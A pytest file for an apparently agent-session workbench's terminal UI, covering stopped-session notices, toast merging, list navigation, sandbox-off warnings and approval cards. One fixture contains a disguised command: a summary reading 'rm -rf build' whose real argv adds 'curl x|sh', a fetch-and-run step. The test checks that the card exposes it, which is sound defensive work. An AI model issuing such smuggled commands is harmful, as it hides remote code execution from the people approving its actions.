"""Fixes from a manual run: keys to a stopped session, toast storms, j/k in the list,
sessions without a sandbox in red, no git in the UI."""

from __future__ import annotations

from pathlib import Path

from tests.test_ui_app import SIZE, calls, started, sync
from tests.test_ui_fakes import HarnessApp, sample_sessions, session
from workbench.ui import model
from workbench.ui.messages import DaemonEvent
from workbench.ui.widgets.session_list import entry
from workbench.ui.widgets.session_pane import header_content
from workbench.ui.widgets.status_bar import status_content
from workbench.ui.widgets.terminal import TerminalView


@sync
async def test_keys_to_a_stopped_session_give_one_inline_notice() -> None:
    app = HarnessApp()
    async with app.run_test(size=SIZE) as pilot:
        await started(app, pilot)
        app.main.show_session("b2")
        await pilot.press("enter")
        await pilot.pause(0.1)
        assert isinstance(app.focused, TerminalView)
        # the session stops while attached
        b2 = {**sample_sessions()[1], "state": "stopped", "alive": False}
        app.post_message(DaemonEvent("session", b2))
        await pilot.pause(0.1)
        await pilot.press(*"hello world")
        await pilot.pause(0.1)
        assert app.link.keys == []  # type: ignore[attr-defined]
        pane = app.main.panes["b2"]
        assert pane.has_class("-notice")
        assert "stopped: keys are not sent — ctrl+] detaches, then r restarts it" in str(pane.notice.render())
        assert not [n for n in app.notes if n[0] == "error"]  # no toast, let alone one per key
        # detach, restart: the notice goes once it runs again
        await pilot.press("ctrl+right_square_bracket")
        app.post_message(DaemonEvent("session", {**b2, "state": "running", "alive": True}))
        await pilot.pause(0.1)
        assert not pane.has_class("-notice")


@sync
async def test_attach_to_a_stopped_session_says_so_in_the_pane() -> None:
    app = HarnessApp(sessions=[session("s1", "old", "stopped", alive=False)], screens={})
    async with app.run_test(size=SIZE) as pilot:
        await started(app, pilot)
        await pilot.press("enter")
        await pilot.pause(0.1)
        assert not isinstance(app.focused, TerminalView)
        assert "■ stopped — r restarts it" in str(app.main.panes["s1"].notice.render())


@sync
async def test_identical_notifications_are_merged() -> None:
    app = HarnessApp()
    async with app.run_test(size=SIZE) as pilot:
        await started(app, pilot)
        app.notes.clear()
        for _ in range(30):
            app.notify("session x is not running", severity="error")
        app.notify("something else")
        assert app.notes == [("error", "session x is not running"), ("information", "something else")]
        # and a burst of different ones is capped
        for i in range(20):
            app.notify(f"distinct {i}")
        assert len(app.notes) <= 5


@sync
async def test_j_and_k_move_in_the_list_and_space_jumps_to_attention() -> None:
    app = HarnessApp()
    async with app.run_test(size=SIZE) as pilot:
        await started(app, pilot)
        assert app.layout.focus == "c3"
        await pilot.press("j")
        assert app.layout.focus == "a1"
        await pilot.press("j")
        assert app.layout.focus == "b2"
        await pilot.press("k")
        assert app.layout.focus == "a1"
        app.main.show_session("b2")
        await pilot.press("space")
        await pilot.pause(0.1)
        assert app.layout.focus == "a1"  # waiting first


def test_sandbox_off_is_red_in_the_list_the_pane_title_and_the_status_bar() -> None:
    s = session("z", "risky", sandbox="off")
    safe = session("y", "safe", sandbox="workspace")
    line = entry(s, 0.0, {}, 40)
    assert any("$error" in str(span.style) and line.plain[span.start:span.end] == "risky" for span in line.spans)
    assert "no sandbox" in line.plain
    assert "no sandbox" not in entry(safe, 0.0, {}, 40).plain
    head = header_content(s)
    assert "sandbox off" in head.plain
    assert any("$error" in str(span.style) and head.plain[span.start:span.end] == "risky" for span in head.spans)
    assert "sandbox off" not in header_content(safe).plain
    bar = status_content([s, safe], "ok", True, "")
    assert "⚠ 1 sandbox off" in bar.plain
    assert any("$error" in str(span.style) for span in bar.spans if "sandbox" in bar.plain[span.start:span.end])


def test_keys_refused_and_check_labels() -> None:
    assert model.accepts_keys(session("a", "a", "running", alive=True))
    assert not model.accepts_keys(session("a", "a", "running", alive=False))
    assert not model.accepts_keys(session("a", "a", "stopped"))
    assert model.check_label(session("a", "a", check="failed")) == ("✖ check", "bold $error")
    assert model.check_label(session("a", "a", check="none")) is None


def test_the_ui_never_runs_git() -> None:
    src = Path(__file__).parents[1] / "src" / "workbench" / "ui"
    for path in src.rglob("*.py"):
        text = path.read_text()
        assert "create_subprocess" not in text and "subprocess" not in text, path
        assert '"git"' not in text, path


@sync
async def test_session_descriptions_give_the_list_its_counts_without_a_diff_call() -> None:
    app = HarnessApp()
    async with app.run_test(size=SIZE) as pilot:
        await started(app, pilot)
        assert "+37 -5" in str(app.main.session_list.get_option("a1").prompt)
        assert not calls(app, "diff")


def test_transcript_labels_for_agent_and_usage_entries() -> None:
    from workbench.ui.widgets.transcript import note_text

    text, _ = note_text("agent", {"model": "m1", "approval": "suggest", "sandbox": "off"})
    assert text == "agent: model m1 · approval suggest · sandbox off"
    text, _ = note_text("usage", {"tokens_in": 10, "tokens_out": 2, "context_tokens": 12, "context_window": 100})
    assert text == "tokens 10 in · 2 out · context 12/100"


def test_approval_card_shows_the_exact_argv_when_the_summary_differs() -> None:
    from workbench.ui.widgets.approval_card import card_content

    same = card_content({"kind": "command", "describe": "cat calc.py", "argv": ["cat", "calc.py"]}).plain
    assert "runs:" not in same and "$ cat calc.py" in same
    wrapped = card_content({"kind": "command", "describe": "rm -rf build",
                            "argv": ["bash", "-lc", "rm -rf build; curl x|sh"]}).plain
    assert "runs: bash -lc 'rm -rf build; curl x|sh'" in wrapped
